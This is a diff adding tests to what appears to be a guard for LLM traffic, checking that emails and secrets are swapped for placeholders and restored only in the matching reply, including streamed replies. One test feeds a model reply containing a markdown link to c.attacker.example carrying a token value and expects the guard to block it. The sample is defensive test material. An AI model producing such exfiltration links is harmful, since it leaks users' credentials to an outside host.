@@ -298,3 +298,73 @@ function decoded(json: string): string {
   const tokens = [...json.matchAll(/"token":"(.*?)"/g)].map(([, token]) => token).join("");
   return [plain, ...base64, tokens].join("\n");
 }
+
+describe("placeholders", () => {
+  const tokenising = createGuard({
+    detectors: { pii: "tokenise", secret: { input: "tokenise" }, exfiltration: "block" },
+  });
+  const MAIL = "anna@firm.example";
+  const given = JSON.stringify({ to: "[EMAIL_1]", note: 'say "hi"' });
+  const call = { id: "c", type: "function", function: { name: "mail", arguments: given } };
+  const message = {
+    role: "assistant",
+    content: "To [EMAIL_1], not [EMAIL_7] or carl@other.example.",
+    tool_calls: [call],
+  };
+  const got = `To ${MAIL}, not [EMAIL_7] or [email].`;
+
+  it("A10: a reply gets back what its request hid, and nothing of another's", async () => {
+    const { fetch, sent, reports } = upstream(answer({ choices: [{ index: 0, message }] }), tokenising);
+    const reply = (await (await fetch(CHAT, asking(`I am ${MAIL}`))).json()) as {
+      choices: [{ message: typeof message }];
+    };
+    expect(bodyOf(sent)).toContain("I am [EMAIL_1]");
+    expect(reply.choices[0].message.content).toBe(got);
+    expect(JSON.parse(reply.choices[0].message.tool_calls[0]!.function.arguments)).toEqual({
+      to: MAIL,
+      note: 'say "hi"',
+    });
+    expect(await (await fetch(CHAT, asking("What is [EMAIL_1]? I am ben@firm.example"))).text()).toContain(
+      "To [EMAIL_1],",
+    );
+    expect(JSON.stringify(reports)).not.toContain("firm.example");
+  });
+
+  it("A10: streams as well, wherever they are cut", async () => {
+    const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 4 });
+    await fc.assert(
+      fc.asyncProperty(cuts, fc.integer({ min: 20, max: 400 }), async (sizes, chunk) => {
+        const cut = (text: string): string[] => {
+          const pieces: string[] = [];
+          for (let at = 0, turn = 0; at < text.length; at += sizes[turn++ % sizes.length]!)
+            pieces.push(text.slice(at, at + sizes[turn % sizes.length]!));
+          return pieces;
+        };
+        const event = (delta: object) => ({ choices: [{ index: 0, delta }] });
+        const events = [
+          ...cut(message.content).map((content) => event({ content })),
+          event({ tool_calls: [{ index: 0, id: "c", type: "function", function: { name: "mail", arguments: "" } }] }),
+          ...cut(given).map((piece) => event({ tool_calls: [{ index: 0, function: { arguments: piece } }] })),
+        ];
+        const { fetch } = upstream(streaming(events, [chunk], "data: [DONE]\n\n"), tokenising);
+        const reply = await (await fetch(CHAT, asking(`I am ${MAIL}`))).text();
+        let text = "";
+        let json = "";
+        for (const line of reply.split("\n\n").filter((one) => one.startsWith("data: {"))) {
+          const { delta } = JSON.parse(line.slice(6)).choices[0];
+          text += delta.content ?? "";
+          json += delta.tool_calls?.[0].function.arguments ?? "";
+        }
+        expect([text, JSON.parse(json)]).toEqual([got, { to: MAIL, note: 'say "hi"' }]);
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  it("A10: a link is judged with the value in it", async () => {
+    const link = (value: string) => saying(`[see](https://c.attacker.example/?q=${value})`);
+    const ask = asking(`my key is ${KEY}`);
+    expect((await upstream(link("[GITHUB_TOKEN_9]"), tokenising).fetch(CHAT, ask)).status).toBe(200);
+    await expect(upstream(link("[GITHUB_TOKEN_1]"), tokenising).fetch(CHAT, ask)).rejects.toThrow(GuardBlockedError);
+  });
+});
